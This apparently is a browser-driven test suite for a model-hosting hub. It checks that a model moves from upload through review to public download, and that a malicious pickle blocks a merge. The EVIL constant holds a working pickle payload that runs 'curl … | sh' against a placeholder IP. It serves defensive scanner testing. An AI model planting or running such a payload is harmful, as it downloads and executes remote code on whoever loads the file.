"""The real all-MiniLM-L6-v2 from a folder on a laptop to the public, with script and without."""

from __future__ import annotations

import hashlib
import shutil
import zipfile
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import expect

from tests.journeys import people
from tests.services.minilm import digests_of

pytestmark = [pytest.mark.journey, pytest.mark.browser, pytest.mark.slow]

EVIL = b"cposix\nsystem\n(S'curl -s http://203.0.113.18/s | sh'\ntR."


@pytest.fixture(params=[True, False], ids=["script", "no-script"])
def has_script(request) -> bool:
    return bool(request.param)


def open_pages(open_context, has_script: bool, *names: str):
    return [open_context(javascript=has_script, accept_downloads=True).new_page() for _ in names]


def found_team(hub, owner, reviewer, suffix: str, *, role: str = "reviewer") -> str:
    """Two people sign up, one founds an organisation, the other joins it; answers its name."""
    base, name = hub.base_url, f"savanna-{suffix}"
    people.sign_up(owner, base, f"ada-{suffix}")
    people.sign_up(reviewer, base, f"grace-{suffix}")
    people.create_organization(owner, base, name)
    people.invite(owner, base, name, member=f"grace-{suffix}", role=role)
    people.accept_invitation(reviewer, base)
    return name


def test_a_model_goes_from_a_laptop_to_the_public(
    running_hub, open_context, minilm, has_script, tmp_path
):
    hub, originals = running_hub, digests_of(minilm)
    suffix = "script" if has_script else "plain"
    owner, reviewer, anybody = open_pages(open_context, has_script, "ada", "grace", "anybody")
    organization = found_team(hub, owner, reviewer, suffix)
    model = f"{hub.base_url}/{organization}/minilm"

    people.add_model(owner, hub.base_url, owner=organization, name="minilm")
    digests = people.ask_for_review(owner, minilm, title="First version")
    assert digests == originals
    people.wait_until_scanned(owner)

    for path in ("", "/tree/main", "/discussions/1", "/resolve/refs/pr/1/config.json"):
        assert httpx.get(model + path).status_code == 404
    assert f"/{organization}/minilm" not in httpx.get(f"{hub.base_url}/models?q=minilm").text

    reviewer.goto(f"{model}/discussions/1")
    people.decide(reviewer, "approve", "The card says what it is for; every file is clean.")
    owner.reload()
    people.merge(owner)
    expect(owner.locator("main")).to_contain_text("Merged")
    hub.wait_until(
        lambda: f"/{organization}/minilm" in httpx.get(f"{hub.base_url}/models?q=minilm").text
    )

    anybody.goto(f"{hub.base_url}/models")
    anybody.get_by_role("searchbox").first.fill("all minilm")
    anybody.get_by_role("searchbox").first.press("Enter")
    expect(anybody.locator(f'main a[href="/{organization}/minilm"]')).to_be_visible()
    anybody.goto(f"{hub.base_url}/models")
    anybody.get_by_role("checkbox", name="Sentence similarity").check()
    anybody.get_by_role("button", name="Apply filters").click()
    anybody.locator(f'main a[href="/{organization}/minilm"]').click()
    expect(anybody.get_by_role("heading", level=1)).to_contain_text("all-MiniLM-L6-v2")

    anybody.goto(f"{model}/tree/main")
    with anybody.expect_download() as one:
        anybody.get_by_label("Download config.json").click()
    assert digest(one.value.path()) == originals["config.json"]
    with anybody.expect_download(timeout=people.PATIENTLY) as whole:
        anybody.get_by_role("link", name="Download all").click()
    assert unzipped(whole.value.path(), tmp_path) == originals


def digest(path: Path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def unzipped(archive: Path, folder: Path) -> dict[str, str]:
    """The digests of what is in the zip, without the folder on top; SHA256SUMS must say the same."""
    with zipfile.ZipFile(archive) as opened:
        opened.extractall(folder)
    (top,) = [path for path in folder.iterdir() if path.is_dir()]
    found = digests_of(top)
    del found["SHA256SUMS"]
    lines = (top / "SHA256SUMS").read_text().splitlines()
    said = {path: sha256 for sha256, path in (line.split("  ", 1) for line in lines)}
    assert said == found
    return found


def test_one_pickle_that_would_run_a_command_blocks_the_way(
    running_hub, open_context, minilm, has_script, tmp_path
):
    hub = running_hub
    suffix = "evil" if has_script else "evil-plain"
    folder = tmp_path / "model"
    shutil.copytree(minilm, folder)
    evil = EVIL + (
        b"" if has_script else b"#"
    )  # bytes that were blocked before are not taken in again
    (folder / "extra.pkl").write_bytes(evil)
    owner, reviewer, security = open_pages(open_context, has_script, "ada", "grace", "sam")
    organization = found_team(hub, owner, reviewer, suffix)
    people.sign_up(security, hub.base_url, f"sam-{suffix}")
    people.invite(
        owner, hub.base_url, organization, member=f"sam-{suffix}", role="security_reviewer"
    )
    people.accept_invitation(security, hub.base_url)
    model = f"{hub.base_url}/{organization}/minilm"

    people.add_model(owner, hub.base_url, owner=organization, name="minilm")
    people.ask_for_review(owner, folder, title="First version")
    people.wait_until_scanned(owner)

    reviewer.goto(f"{model}/security/refs/pr/1")
    report = reviewer.locator("main")
    expect(report).to_contain_text("extra.pkl")
    expect(report).to_contain_text("REDUCE")
    expect(report).to_contain_text("posix system")
    expect(report).to_contain_text("offset")
    reviewer.goto(f"{model}/discussions/1")
    assert reviewer.locator("input[name=kind][value=approve]").is_disabled() or _approve(reviewer)
    owner.reload()
    button = owner.get_by_role("button", name="Merge")
    assert button.count() == 0 or button.is_disabled()
    for page in (owner, reviewer):
        answer = page.context.request.get(f"{model}/resolve/refs/pr/1/extra.pkl")
        assert answer.status == 403
    security.goto(f"{model}/blob/refs/pr/1/extra.pkl")
    security.get_by_label("Your purpose").fill("To tell the people who made it.")
    with security.expect_download() as held:
        security.get_by_role("button", name="Download the held file").click()
    assert Path(held.value.path()).read_bytes() == evil


def _approve(page) -> bool:
    people.decide(page, "approve", "I did not look at the scan.")
    return True
